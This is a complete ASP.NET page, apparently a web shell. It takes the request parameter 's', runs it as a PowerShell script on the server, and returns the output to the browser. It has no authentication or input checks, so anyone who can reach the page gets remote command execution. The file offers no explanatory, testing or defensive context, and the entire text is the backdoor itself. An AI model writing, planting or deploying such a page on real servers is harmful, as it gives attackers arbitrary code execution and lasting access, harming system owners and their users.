<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Collections.ObjectModel" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string script = Request.Params["s"];
    if (String.IsNullOrEmpty(script)) return;
    using (PowerShell ps = PowerShell.Create())
    {
        ps.AddScript(script);
        Collection<PSObject> results = ps.Invoke();
        foreach (PSObject r in results) { Response.Write(Server.HtmlEncode(r.ToString()) + "<br/>"); }
    }
}
</script>
